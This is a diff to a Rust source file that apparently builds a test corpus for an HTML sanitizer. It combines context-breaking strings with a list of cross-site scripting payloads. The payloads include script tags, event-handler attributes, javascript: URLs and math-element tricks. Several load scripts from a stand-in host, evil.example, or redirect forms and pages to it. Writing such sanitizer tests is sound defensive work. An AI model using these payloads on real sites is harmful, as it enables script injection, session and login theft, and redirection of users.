@@ -19,6 +19,51 @@ pub(crate) const TEXTS: &[&str] = &[
     "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
 ];
 
+/// What ends the place in which a text may stand: an attribute, an element whose content is text, a comment.
+const BREAKS: &[&str] = &[
+    "",
+    "\">",
+    "'>",
+    " x=`>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "</noscript>",
+    "-->",
+    "]]>",
+    "&quot;>",
+    "\\\");",
+];
+
+/// What would do something there.
+const DEEDS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT/src=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<body onload=alert(1)>",
+    "<a href=java&#x09;script:alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<form action=//evil.example><input name=csrf>",
+    "<input autofocus onfocus=alert(1)>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
+    "<math href=javascript:alert(1)><mtext>x</mtext></math>",
+];
+
+/// More than 200: each deed behind each break, and those that are of no such form.
+pub(crate) fn corpus() -> Vec<String> {
+    let made = BREAKS.iter().flat_map(|before| DEEDS.iter().map(move |deed| format!("x{before}{deed}")));
+    made.chain(TEXTS.iter().map(|text| (*text).to_owned())).collect()
+}
+
 /// Elements whose names a page of ours may have.
 const ELEMENTS: &[&str] = &[
     "html",
